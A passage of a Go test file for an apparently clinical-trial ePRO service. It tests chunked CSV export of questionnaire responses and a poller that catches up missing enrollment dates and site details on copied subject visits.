		t.Fatalf("CSV export event %v", ev[0])
	}
	if !strings.Contains(ev[1].GetReason(), "REVIEWED_ONLY") || ev[2].GetNewValue() != "FHIR_NDJSON rows=3 sha256="+ndTrailer.GetSha256() {
		t.Fatalf("export events %v", ev[1:])
	}
}

// An export reads the database in chunks and sends each before reading the
// next: with chunks of 7, 40 rows come from 6 reads of at most 7 rows.
func TestExportStreamsInChunks(t *testing.T) {
	f := setup(t)
	ctx := context.Background()
	now := time.Now().UTC()
	for i := range 40 {
		visit := f.visit(t, now.Add(-time.Hour), now.Add(time.Hour), trialv1.SubjectVisitStatus_SUBJECT_VISIT_STATUS_PENDING)
		if _, err := f.submit(ctx, "chunked-export-"+uuid.NewString(), visit, now, phq9Answers(t, total(i%24))); err != nil {
			t.Fatal(err)
		}
	}
	var mu sync.Mutex
	var chunks []int
	defer epro.SetExportChunk(7, func(n int) {
		mu.Lock()
		defer mu.Unlock()
		chunks = append(chunks, n)
	})()
	analyst := staff(t, f, auth.Caller{Subject: "an-1", Role: authzv1.Role_ROLE_ANALYST, Trials: []string{f.trial.trialID}})
	msgs, file, err := export(t, analyst, &eprov1.ExportResponsesRequest{Format: eprov1.ExportFormat_EXPORT_FORMAT_CSV, TrialId: f.trial.trialID})
	if err != nil {
		t.Fatal(err)
	}
	checkTrailer(t, msgs, file, 40)
	mu.Lock()
	defer mu.Unlock()
	if !slices.Equal(chunks, []int{7, 7, 7, 7, 7, 5}) {
		t.Fatalf("chunks read %v, want 7,7,7,7,7,5", chunks)
	}
	seen := map[string]bool{}
	for _, m := range msgs {
		if d := m.GetRow().GetData(); d != "" {
			seen[strings.SplitN(d, ",", 2)[0]+d] = true
		}
	}
	if len(seen) != 40 {
		t.Fatalf("%d distinct rows, want 40", len(seen))
	}
}

// A visit copied before the worklist carried enrollment dates and site zones
// gets them: the poller reads the trial again from its first visit while any
// copy lacks them (the trial service does not move updated_at for it).
func TestVisitCopyCatchesUpEnrollmentDates(t *testing.T) {
	f := setup(t)
	now := time.Now().UTC()
	v := &trialv1.SubjectVisit{SubjectUuid: f.subject, VisitCode: "W01", VisitName: "Week 1", SiteId: siteID,
		WindowOpensAt: timestamppb.New(now.Add(-time.Hour)), WindowClosesAt: timestamppb.New(now.Add(time.Hour)),
		Status:         trialv1.SubjectVisitStatus_SUBJECT_VISIT_STATUS_PENDING,
		Questionnaires: []*trialv1.QuestionnaireRef{{Ref: &trialv1.QuestionnaireRef_QuestionnaireId{QuestionnaireId: f.phq9.GetQuestionnaireId()}}}}
	id := f.trial.put(v)
	eventually(t, "the visit copied", func() bool {
		return count(t, f.env, `SELECT COUNT(*) FROM subject_visits WHERE id = $1 AND enrollment_date = ''`, id) == 1
	})
	// A later visit moves the cursor past the first.
	later := f.visit(t, now.Add(-time.Hour), now.Add(time.Hour), trialv1.SubjectVisitStatus_SUBJECT_VISIT_STATUS_PENDING)
	f.trial.mu.Lock()
	for i, x := range f.trial.visits {
		if x.GetSubjectVisitId() == id { // a new message: the old one may be on the wire
			c := proto.Clone(x).(*trialv1.SubjectVisit)
			c.EnrollmentDate, c.SiteTimeZone, c.SiteCode = "2026-01-05", "Europe/Berlin", "DE-001" // same updated_at
			f.trial.visits[i] = c
		}
	}
	f.trial.mu.Unlock()
	eventually(t, "the enrollment date copied", func() bool {
		return count(t, f.env, `SELECT COUNT(*) FROM subject_visits WHERE id = $1 AND enrollment_date = '2026-01-05'
			AND site_time_zone = 'Europe/Berlin' AND site_code = 'DE-001'`, id) == 1
	})
	if n := count(t, f.env, `SELECT COUNT(*) FROM subject_visits WHERE id = $1`, later); n != 1 {
		t.Fatalf("later visit: %d copies", n)
	}
}
